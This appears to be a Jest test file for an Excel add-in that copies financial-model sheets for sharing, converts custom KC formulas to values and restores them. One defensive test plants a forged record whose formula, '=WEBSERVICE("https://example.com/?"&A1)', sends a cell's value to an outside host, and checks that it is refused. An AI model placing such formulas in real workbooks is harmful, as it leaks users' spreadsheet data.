import { CONVERSIONS_NAMESPACE, conversionXml } from "../../../src/data/conversions";
import { bundledKc as kc } from "../../../src/functions/dataset-in-use";
import { Dec } from "../../../src/domain/decimal";
import { buildModel } from "../../../src/sheets/model";
import { DEFAULT_OPTIONS } from "../../../src/sheets/types";
import { callsKc, renameSheetRefs } from "../../../src/taskpane/formula-text";
import {
  ShareError,
  convertSelection,
  makeShareableCopy,
  restoreFormulas,
  selectionToConvert,
} from "../../../src/taskpane/share";
import {
  confirmText,
  conversionSummary,
  copySummary,
  listSheets,
  restoreSummary,
} from "../../../src/taskpane/share-panel";
import { insertModel } from "../../../src/taskpane/writer";
import { FakeExcel, FakeSheet } from "../../helpers/fake-excel";

/**
 * The share-safe actions on a mock workbook: the model tabs as the writer inserts them (each KC
 * cell holding the figure Excel would show) and a user's sheet mixing KC calls, native formulas,
 * text, an error, a spilled array and a note of the user's.
 */

const kcf = kc();
const model = buildModel(kcf.fin, DEFAULT_OPTIONS);
const SERIES = kcf.series("revenue.total") as unknown[][];

async function workbook(): Promise<FakeExcel> {
  const fake = new FakeExcel([
    { name: "Other", cells: { A1: { formula: "=KC.FX()", value: 7.1 } } },
  ]);
  await insertModel(model, undefined, fake.api);
  // What Excel shows in each formula cell of the tabs.
  for (const plan of model.plans) {
    const sheet = fake.sheet(plan.name) as FakeSheet;
    for (const c of plan.cells) {
      if (!c.formula) continue;
      const v = model.value({ tab: plan.key, row: c.row, col: c.col });
      sheet.cells.get(`${c.row},${c.col}`)!.value = v instanceof Dec ? v.toNumber() : v;
    }
  }
  fake.addSheet({
    name: "DCF",
    cells: {
      A1: "Revenue x2",
      B1: { formula: '=KC.VALUE("revenue.total","2026Q1")*2', value: 2 * 2345678 },
      A2: "Period",
      B2: "Q1 2026",
      C2: { formula: '=KC.REVENUE(B2,"public")', value: 1996301 },
      A3: "Gross profit",
      B3: { formula: "='KC Income Statement'!D10*1.1", value: 1.1 },
      C3: { formula: "=SUM(B1:B3)", value: 3 },
      D3: { formula: "=Other!A1+B1", value: 8 },
      A4: "Source",
      B4: {
        formula: '=KC.SOURCE("revenue.public","2026Q1")',
        value: kcf.source("revenue.public", "2026Q1"),
      },
      A5: "Typo",
      B5: { formula: '=KC.VALUE("revnue.total")', value: "#VALUE!" },
      A6: "Text",
      B6: "=not a formula",
      A7: "Series",
      B7: { formula: '=KC.SERIES("revenue.total")', spill: SERIES },
    },
    notes: { C2: "checked against the release" },
  });
  return fake;
}

/** Each sheet as JSON, by name. */
function sheetsOf(fake: FakeExcel): Map<string, string> {
  return new Map(
    fake.sheets.map((s) => [s.name, JSON.stringify({ ...s, notes: [...s.notes] }, mapJson)])
  );
}

function mapJson(_: string, v: unknown): unknown {
  return v instanceof Map ? [...v] : v;
}

function formulasOf(sheet: FakeSheet): Map<string, string> {
  return new Map(
    [...sheet.cells].flatMap(([k, c]) => (c.formula ? [[k, c.formula] as [string, string]] : []))
  );
}

const CHOSEN = ["KC Income Statement", "KC Balance Sheet", "KC Cash Flow", "DCF"];

describe("make a shareable copy", () => {
  test("copies with no KC formula left, native formulas live and pointed at the copies, every value and a sourced note, other sheets untouched, in three syncs", async () => {
    const fake = await workbook();
    const before = sheetsOf(fake);
    const syncs = fake.syncs;
    const report = await makeShareableCopy(CHOSEN, kcf, fake.api);
    expect(fake.syncs - syncs).toBe(3);
    expect(report.syncs).toBe(3);
    const renames = new Map(CHOSEN.map((n) => [n, `${n} (share)`]));
    expect(report.copies.map((c) => [c.from, c.to])).toEqual([...renames]);
    // The income statement's per-ADS lines link to the shares per ADS on the operating figures.
    expect(report.outside).toEqual(["KC Operating Figures", "Other"]);
    expect(fake.sheets.map((s) => s.name).slice(-4)).toEqual([...renames.values()]);

    // Nothing but the copies changed.
    for (const [name, json] of before)
      expect({ name, json: sheetsOf(fake).get(name) }).toEqual({ name, json });

    let converted = 0;
    for (const [from, to] of renames) {
      const source = fake.sheet(from)!;
      const copy = fake.sheet(to)!;
      const copied = report.copies.find((c) => c.to === to)!.converted;
      expect([...copy.cells.values()].filter((c) => callsKc(c.formula))).toEqual([]);
      for (const [k, f] of formulasOf(source)) {
        const kc = callsKc(f);
        if (kc) converted++;
        // A KC formula becomes the figure Excel showed, with a note of the formula and its
        // source; any other formula stays, pointing at the copies.
        expect({
          k,
          value: kc ? copy.cells.get(k)?.value : "a formula",
          note: kc ? copy.notes.get(k)?.includes(`Was ${f}`) : "none needed",
          formula: kc ? "a value" : copy.cells.get(k)?.formula,
        }).toEqual({
          k,
          value: kc ? source.cells.get(k)?.value : "a formula",
          note: kc ? true : "none needed",
          formula: kc ? "a value" : renameSheetRefs(f, renames),
        });
      }
      expect(copy.formats).toEqual(source.formats);
      expect(copied).toBeGreaterThan(0);
    }
    expect(converted).toBe(report.copies.reduce((n, c) => n + c.converted, 0));

    // Figures typed from the release: public cloud revenue, Q1 2026, and where it is printed.
    expect(fake.cell("KC Income Statement (share)", "F6")?.value).toBe(1996301);
    expect(fake.note("KC Income Statement (share)", "F6")).toBe(
      [
        'Was =KC.VALUE("revenue.public","2026Q1","RMB","thousands")',
        `KC Financials, dataset ${kcf.fin.dataset.version}`,
        'Source: UNAUDITED CONDENSED CONSOLIDATED STATEMENTS OF COMPREHENSIVE LOSS, row "Public cloud services", column "Three Months Ended Mar 31, 2026 RMB", line 539 of kc-2026q1-earnings-release.txt: 1,996,301',
      ].join("\n")
    );
    const cashFlow = buildModel(kcf.fin, DEFAULT_OPTIONS).plans.find((p) => p.key === "cash_flow")!;
    const onBalanceSheet = cashFlow.cells.find(
      (c) => c.value === "Cash and restricted cash, balance sheet"
    )!.row;
    expect(fake.cell("KC Cash Flow (share)", `F${onBalanceSheet + 1}`)?.formula).toBe(
      "='KC Balance Sheet (share)'!F7+'KC Balance Sheet (share)'!F8"
    );
    expect(fake.cell("DCF (share)", "B3")?.formula).toBe("='KC Income Statement (share)'!D10*1.1");
    expect(fake.cell("DCF (share)", "D3")?.formula).toBe("=Other!A1+B1");
    expect(fake.cell("DCF (share)", "B1")).toEqual({ value: 4691356 });
    // A reference argument is traced with the cell's value; the user's note is kept above.
    expect(fake.note("DCF (share)", "C2")).toMatch(
      /^checked against the release\n\nWas =KC\.REVENUE\(B2,"public"\)\n.*\nSource: .*line 539 of kc-2026q1-earnings-release\.txt: 1,996,301$/s
    );
    expect(fake.note("DCF", "C2")).toBe("checked against the release");
    // Text stays text, an error stays the error, an array fills the cells it had spilled into.
    expect(fake.cell("DCF (share)", "B4")?.value).toBe(kcf.source("revenue.public", "2026Q1"));
    expect(fake.cell("DCF (share)", "B5")?.value).toBe("#VALUE!");
    expect(fake.note("DCF (share)", "B5")).toContain('#VALUE! Unknown line item "revnue.total"');
    expect(fake.cell("DCF (share)", "B6")).toEqual({ value: "=not a formula" });
    SERIES.forEach((row, r) =>
      row.forEach((v, c) =>
        expect(fake.sheet("DCF (share)")!.cells.get(`${6 + r},${1 + c}`)?.value).toBe(v)
      )
    );
    expect(fake.note("DCF (share)", "B7")).toContain(
      `Was =KC.SERIES("revenue.total") (its array filled B7:${String.fromCharCode(65 + SERIES[0].length)}${6 + SERIES.length})`
    );
  });

  test("long names are shortened to Excel's 31 characters, and a taken name moves on", async () => {
    const fake = await workbook();
    fake.addSheet({ name: "DCF (share)" });
    const report = await makeShareableCopy(["KC Non-GAAP Reconciliation", "DCF"], kcf, fake.api);
    expect(report.copies.map((c) => c.to)).toEqual([
      "KC Non-GAAP Reconciliat (share)",
      "DCF (share 2)",
    ]);
  });

  test("refused, with nothing changed: no KC formula, a sheet gone, a figure still calculating", async () => {
    const fake = await workbook();
    const before = fake.snapshot();
    await expect(makeShareableCopy(["KC Checks"], kcf, fake.api)).rejects.toThrow(
      "None of the chosen sheets has a KC formula: they can be shared as they are."
    );
    await expect(makeShareableCopy(["DCF", "Gone"], kcf, fake.api)).rejects.toThrow(
      'There is no sheet named "Gone" any more: reload the list of sheets.'
    );
    fake.sheet("DCF")!.cells.get("0,1")!.value = "#BUSY!";
    const busy = fake.snapshot();
    await expect(makeShareableCopy(["DCF"], kcf, fake.api)).rejects.toThrow(
      "Excel is still calculating 1 KC cell (DCF!B1): nothing was changed. Try again once they show figures."
    );
    expect(fake.snapshot()).toBe(busy);
    fake.sheet("DCF")!.cells.get("0,1")!.value = 4691356;
    expect(fake.snapshot()).toBe(before);
  });

  test("a failure while writing the copies leaves the workbook as it was", async () => {
    const probe = await workbook();
    const start = probe.clone();
    await makeShareableCopy(CHOSEN, kcf, probe.api);
    const write = probe.batches[probe.batches.length - 1];
    const copies = write.what.flatMap((w, i) => (w === "copy sheet" ? [i] : []));
    for (const after of [
      0,
      ...copies.flatMap((i) => [i + 1, i + 2, i + 3]),
      write.operations - 1,
      write.operations,
    ]) {
      const fake = start.clone();
      const before = fake.snapshot();
      fake.failAt(3, after);
      const error = await makeShareableCopy(CHOSEN, kcf, fake.api).then(
        () => "",
        (e: Error) => e.message
      );
      // As it was; or a copy made just before the failure (before the operation that marks
      // it), named in the message, and once the analyst deletes it, as it was.
      const extra = fake.sheets.filter((s) => !start.sheets.some((x) => x.id === s.id));
      const undone = error.endsWith("; the workbook is as it was.");
      const told = `it was undone, except: "${extra[0]?.name}", a sheet that appeared during the attempt`;
      expect(undone || error.includes(told) ? "said" : error).toBe("said");
      expect(extra).toHaveLength(undone ? 0 : 1);
      for (const sheet of extra) fake.deleteAsUser(sheet.name);
      expect(fake.snapshot()).toBe(before);
    }
  });
});

describe("convert KC formulas to values in place", () => {
  test("the selection only, after telling how many; restore puts back the exact formulas and notes", async () => {
    const fake = await workbook();
    fake.selection = { sheet: "DCF", address: "A1:C7" };
    const before = fake.snapshot({ uncomputed: true });
    await expect(selectionToConvert(fake.api)).resolves.toEqual({
      sheet: "DCF",
      address: "DCF!A1:C7",
      count: 5,
    });
    const syncs = fake.syncs;
    const conversion = await convertSelection(kcf, fake.api);
    expect(fake.syncs - syncs).toBe(3);
    expect(conversion.cells.map((c) => c.address)).toEqual(["B1", "C2", "B4", "B5", "B7"]);
    const dcf = fake.sheet("DCF")!;
    expect([...dcf.cells.values()].filter((c) => callsKc(c.formula))).toEqual([]);
    expect(dcf.cells.get("2,1")?.formula).toBe("='KC Income Statement'!D10*1.1");
    expect(dcf.cells.get("2,2")?.formula).toBe("=SUM(B1:B3)");
    expect(fake.cell("DCF", "B1")).toEqual({ value: 4691356 });
    expect(fake.cell("DCF", "B5")).toEqual({ value: "#VALUE!" });
    expect(fake.note("DCF", "B1")).toContain('Was =KC.VALUE("revenue.total","2026Q1")*2');
    expect(fake.note("DCF", "C2")).toMatch(/^checked against the release\n\nWas =KC\.REVENUE/);
    // Other sheets, KC formulas outside the selection: untouched.
    expect(fake.sheet("Other")!.cells.get("0,0")?.formula).toBe("=KC.FX()");
    expect(fake.cell("KC Income Statement", "F6")?.formula).toContain("KC.VALUE");

    const restored = await restoreFormulas(fake.api);
    expect(restored).toEqual({
      sheet: "DCF",
      restored: 5,
      changed: [],
      remaining: 0,
      warnings: [],
    });
    // The same formulas and notes (values and arrays are Excel's to compute again).
    expect(fake.snapshot({ uncomputed: true })).toBe(before);
  });

  test("restore leaves a cell the user changed since, and says which", async () => {
    const fake = await workbook();
    fake.selection = { sheet: "DCF", address: "B1:C2" };
    await convertSelection(kcf, fake.api);
    fake.sheet("DCF")!.cells.set("0,1", { value: 5000000 });
    const restored = await restoreFormulas(fake.api);
    expect(restored).toMatchObject({ sheet: "DCF", restored: 1, changed: ["B1"] });
    expect(fake.cell("DCF", "B1")).toEqual({ value: 5000000 });
    expect(fake.cell("DCF", "C2")?.formula).toBe('=KC.REVENUE(B2,"public")');
    expect(fake.note("DCF", "C2")).toBe("checked against the release");
  });

  test("a selection moved after the confirmation is refused", async () => {
    const fake = await workbook();
    fake.selection = { sheet: "DCF", address: "A1:C7" };
    const before = fake.snapshot();
    await expect(convertSelection(kcf, fake.api, "DCF!B1:B2")).rejects.toThrow(
      "The selection moved to DCF!A1:C7 after you confirmed DCF!B1:B2: nothing was converted."
    );
    expect(fake.snapshot()).toBe(before);
  });

  test("a selection of more KC formulas than one record keeps is refused, nothing converted", async () => {
    const cells: Record<string, unknown> = {};
    for (let r = 1; r <= 5001; r++) cells[`A${r}`] = { formula: "=KC.FXRATE()", value: 6.898 };
    const fake = new FakeExcel([{ name: "Big", cells }]);
    fake.selection = { sheet: "Big", address: "A1:A5001" };
    const before = fake.snapshot();
    await expect(convertSelection(kcf, fake.api)).rejects.toThrow(
      "The selection (Big!A1:A5001) holds 5,001 KC formulas; at most 5,000 are converted at once, so that Restore formulas can put them back: select fewer and convert in parts. Nothing was converted."
    );
    expect(fake.snapshot()).toBe(before);
  });

  test("a selection without KC formulas says so", async () => {
    const fake = await workbook();
    fake.selection = { sheet: "DCF", address: "A1:A7" };
    await expect(selectionToConvert(fake.api)).resolves.toMatchObject({ count: 0 });
    await expect(convertSelection(kcf, fake.api)).rejects.toThrow(
      "The selection (DCF!A1:A7) holds no KC formula."
    );
  });

  test("a failure while writing puts the formulas back; if that fails too, Restore formulas can", async () => {
    const fake = await workbook();
    fake.selection = { sheet: "DCF", address: "A1:C7" };
    const before = fake.snapshot({ uncomputed: true });
    const probe = fake.clone();
    await convertSelection(kcf, probe.api);
    const write = probe.batches[2];
    for (let after = 0; after <= write.operations; after++) {
      const start = fake.syncs;
      fake.failAt(start + 3, after);
      await expect(convertSelection(kcf, fake.api)).rejects.toThrow(
        new ShareError(
          "Converting the formulas failed (Simulated failure during sync); the formulas are as they were."
        )
      );
      expect({ after, workbook: fake.snapshot({ uncomputed: true }) }).toEqual({
        after,
        workbook: before,
      });
    }

    const again = fake.syncs;
    fake.failAt(again + 3, 3);
    fake.failAt(again + 5);
    const error = await convertSelection(kcf, fake.api).then(
      () => undefined,
      (e: ShareError) => e
    );
    expect(error?.message).toBe(
      "Converting the formulas failed (Simulated failure during sync), and putting them back failed too (Reading the workbook's records of conversions failed (Simulated failure during sync); nothing was changed. Try again.): some cells of \"DCF\" may hold values. Press Restore formulas: the conversion's record is in the workbook."
    );
    await restoreFormulas(fake.api);
    expect(fake.snapshot({ uncomputed: true })).toBe(before);
  });
});

describe("the conversion's record in the workbook", () => {
  test("restore works after the workbook is reopened: a fresh pane over the saved workbook, on another machine too", async () => {
    const fake = await workbook();
    fake.selection = { sheet: "DCF", address: "A1:C7" };
    const before = fake.snapshot({ uncomputed: true });
    await convertSelection(kcf, fake.api);
    expect(fake.xmlParts.map((p) => p.namespace)).toEqual([CONVERSIONS_NAMESPACE]);
    // Saved, closed, opened elsewhere: the same sheets and parts, a pane with nothing in memory,
    // and (ASSUMED possible) the sheet under another id.
    const reopened = fake.clone();
    reopened.sheet("DCF")!.id = "{00000000-0009-0000-0000-000000000000}";
    let fresh!: typeof import("../../../src/taskpane/share");
    jest.isolateModules(() => {
      fresh = jest.requireActual("../../../src/taskpane/share");
    });
    await expect(fresh.restoreFormulas(reopened.api)).resolves.toMatchObject({
      sheet: "DCF",
      restored: 5,
      changed: [],
      remaining: 0,
    });
    const sheetIds = (s: string) => s.replace(/"id": "\{[^}]*\}"/g, '"id": ""');
    expect(sheetIds(reopened.snapshot({ uncomputed: true }))).toBe(sheetIds(before));
  });

  test("two conversions: the latest is restored first, then the earlier", async () => {
    const fake = await workbook();
    fake.selection = { sheet: "DCF", address: "B1" };
    await convertSelection(kcf, fake.api, undefined, () => new Date("2026-05-20T08:00:00Z"));
    fake.selection = { sheet: "DCF", address: "C2" };
    await convertSelection(kcf, fake.api, undefined, () => new Date("2026-05-20T09:00:00Z"));
    await expect(restoreFormulas(fake.api)).resolves.toMatchObject({ remaining: 1 });
    expect(fake.cell("DCF", "C2")?.formula).toBe('=KC.REVENUE(B2,"public")');
    expect(fake.cell("DCF", "B1")?.formula).toBeUndefined();
    await expect(restoreFormulas(fake.api)).resolves.toMatchObject({ remaining: 0 });
    expect(fake.cell("DCF", "B1")?.formula).toBe('=KC.VALUE("revenue.total","2026Q1")*2');
    expect(fake.xmlParts).toEqual([]);
    await expect(restoreFormulas(fake.api)).rejects.toThrow(
      "This workbook records no conversion to values: there is nothing to restore."
    );
  });

  test("a record that is not the pane's is refused, and nothing is written", async () => {
    const fake = await workbook();
    fake.sheet("DCF")!.cells.set("0,1", { value: 1 });
    fake.addXmlPart(
      conversionXml({
        id: "0a1b2c3d",
        at: "2026-05-20T08:00:00.000Z",
        sheet: "DCF",
        sheetId: fake.sheet("DCF")!.id,
        address: "DCF!B1",
        cells: [
          {
            address: "B1",
            area: "B1",
            formula: '=WEBSERVICE("https://example.com/?"&A1)',
            shown: [[1]],
            note: { after: "x" },
          },
        ],
      })
    );
    fake.addXmlPart(`<conversion xmlns="${CONVERSIONS_NAMESPACE}">{"id":1}</conversion>`);
    const before = fake.snapshot();
    const error = await restoreFormulas(fake.api).then(
      () => "",
      (e: Error) => e.message
    );
    expect(error).toContain(
      "names a formula that calls no KC function (DCF!B1), which KC Financials never converts: it was not read."
    );
    expect(error).toContain(
      'A record of a conversion to values in this workbook was not read: the record lacks its field "at".'
    );
    expect(fake.snapshot()).toBe(before);
  });

  test("a restore that fails and cannot be finished says what state the cells are in and what to do", async () => {
    const fake = await workbook();
    fake.selection = { sheet: "DCF", address: "A1:C7" };
    await convertSelection(kcf, fake.api);
    const start = fake.syncs;
    for (let n = start + 4; n <= start + 12; n++) fake.failAt(n, 1);
    await expect(restoreFormulas(fake.api)).rejects.toThrow(
      'Restoring the formulas failed (Simulated failure during sync), and finishing it failed too: some cells of "DCF" (DCF!A1:C7) may hold their formulas again and others still values. The conversion\'s record is still in the workbook: press Restore formulas again to finish.'
    );
    expect(fake.xmlParts).toHaveLength(1);
  });
});

test("the pane's list of sheets, in order", async () => {
  const fake = await workbook();
  await expect(listSheets(fake.api)).resolves.toEqual([
    "Other",
    ...model.plans.map((p) => p.name),
    "DCF",
  ]);
});

describe("what the pane says", () => {
  test("after a copy: what was copied, where sources are, links that leave the copies, how to send them", () => {
    expect(
      copySummary({
        copies: [
          { from: "KC Income Statement", to: "KC Income Statement (share)", converted: 81 },
          { from: "DCF", to: "DCF (share)", converted: 1 },
        ],
        outside: ["Other"],
        syncs: 3,
      })
    ).toEqual([
      'Copied 2 sheets: "KC Income Statement" to "KC Income Statement (share)" (81 KC formulas replaced), "DCF" to "DCF (share)" (1 KC formula replaced).',
      "Each replaced figure keeps its formula and source in a cell note; native formulas stay live and point at the copies.",
      'The copies refer to "Other", not copied: copy it too, or those links will point back to this workbook.',
      "To send them: select the copies' tabs, right-click, Move or Copy, (new book), and save that workbook.",
    ]);
  });

  test("before and after converting in place, and after restoring", () => {
    expect(confirmText({ address: "DCF!A1:C7", count: 5 })).toBe(
      "Replace the 5 KC formulas in DCF!A1:C7 by their values? Each keeps its formula and source in a cell note, and Restore formulas puts them back, also after the workbook is closed and opened again."
    );
    expect(
      conversionSummary({
        id: "00000000",
        at: "2026-05-20T08:31:02.000Z",
        sheet: "DCF",
        sheetId: "x",
        address: "DCF!B1",
        cells: [],
      })
    ).toBe(
      "Replaced 0 KC formulas in DCF!B1 by their values. Restore formulas puts them back: the workbook keeps a record of them."
    );
    expect(
      restoreSummary({
        sheet: "DCF",
        restored: 1,
        changed: ["B1", "B4"],
        remaining: 1,
        warnings: ["Restoring failed part way (x); it was finished afterwards."],
      })
    ).toEqual([
      "Restoring failed part way (x); it was finished afterwards.",
      'Put back 1 formula in "DCF".',
      "Left 2 cells you changed since, as they are: B1, B4.",
      "The workbook records 1 earlier conversion: Restore formulas again puts back the latest.",
    ]);
  });
});
